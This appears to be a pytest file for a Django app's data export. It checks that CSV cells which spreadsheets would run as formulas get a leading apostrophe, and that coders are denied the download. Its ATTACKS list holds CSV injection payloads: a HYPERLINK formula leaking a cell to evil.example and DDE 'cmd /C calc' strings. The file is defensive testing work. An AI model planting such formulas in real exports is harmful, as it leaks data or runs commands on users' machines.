"""CSV injection: text cells a spreadsheet would run as formulas are neutralised in every CSV."""

import csv
import io
import json
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from coding.export import cells
from coding.export.columns import EVENT_COLUMNS
from coding.review.decisions import edit_event

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_text_gets_an_apostrophe(value):
    assert cells.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-3", "+1.5", "-0.25", "1e-3", "", "plain", "a=b", 5, -2, None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert cells.cell(value) == value


def test_a_row_is_neutralised_exactly_as_cell_by_cell():
    values = [*ATTACKS, "-3", "+1.5", "1e-3", "", "plain", "a=b", 5, -2, None, 1.5, "==", "-"]
    assert cells.row(values) == [cells.cell(v) for v in values]
    assert cells.row(["-", "="]) == ["'-", "'="]


def test_writer_neutralises_every_row():
    out = io.StringIO()
    w = cells.writer(out, lineterminator="\n")
    w.writerow(["=1+1", -1, "ok"])
    w.writerows([["@x", "-5"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "-1", "ok"], ["'@x", "-5"]]


def _zip(client, project) -> zipfile.ZipFile:
    response = client.get(reverse("export-zip", args=[project.slug]))
    assert response.status_code == 200
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def _rows(archive, name):
    with archive.open(name) as f:
        return list(csv.DictReader(io.TextIOWrapper(f, encoding="utf-8", newline="")))


def test_export_download_neutralises_notes_outlets_and_quotes(client_for, project, pi, dataset):
    event = dataset.first()
    edit_event(pi, event, {"note": ATTACKS[0], "forum": "@forum"})
    coding = event.evidence.first().coding
    source = coding.source
    source.outlet = "=cmd|' /C calc'!A0"
    source.save()
    type(coding).objects.filter(pk=coding.pk).update(quote="-1+cmd|' /C calc'!A0")

    archive = _zip(client_for(pi), project)
    row = next(r for r in _rows(archive, "events.csv") if r["event_id"] == event.event_id)
    assert row["notes"] == "'" + ATTACKS[0]
    assert row["forum"] == "'@forum"
    assert "=cmd|' /C calc'!A0" in row["source"]
    assert not row["source"].startswith(cells.FORMULA_STARTS)
    # whatever evidence.csv's columns, no cell of any CSV starts a formula
    evidence = [v for r in _rows(archive, "evidence.csv") for v in r.values()]
    assert "'-1+cmd|' /C calc'!A0" in evidence
    for name in ("events.csv", "evidence.csv", "dyad_year.csv"):
        values = [v for r in _rows(archive, name) for v in r.values()]
        assert not [v for v in values if cells.cell(v) != v], name
    # numbers stay numbers; JSON and XLSX keep the value as it is (XLSX as a string cell)
    assert all(r["confidence"].isdigit() for r in _rows(archive, "events.csv"))
    record = next(
        r for r in json.loads(archive.read("events.json")) if r["event_id"] == event.event_id
    )
    assert record["notes"] == ATTACKS[0]
    sheet = load_workbook(io.BytesIO(archive.read("events.xlsx")))["events"]
    notes = EVENT_COLUMNS.index("notes")
    xcell = next(r[notes] for r in sheet.iter_rows(min_row=2) if r[0].value == event.event_id)
    assert xcell.value == ATTACKS[0] and xcell.data_type == "s"
    assert "leading apostrophe" in archive.read("README.md").decode()
    assert "apostrophe" in json.loads(archive.read("datapackage.json"))["description"]


def test_coders_cannot_download_the_export(client_for, project, coder, dataset):
    response = client_for(coder).get(reverse("export-zip", args=[project.slug]))
    assert response.status_code in (403, 404)


def test_dashboard_csv_uses_the_same_rule(client_for, project, pi, dataset):
    event = dataset.get(dyad_type="multilateral")
    edit_event(pi, event, {"forum": "=1+1"})
    url = reverse("dashboard-csv", args=[project.slug, "network"])
    response = client_for(pi).get(url)
    assert response.status_code == 200
    text = response.content.decode()
    assert "'=1+1" in text and "\n=1+1" not in text and ",=1+1" not in text
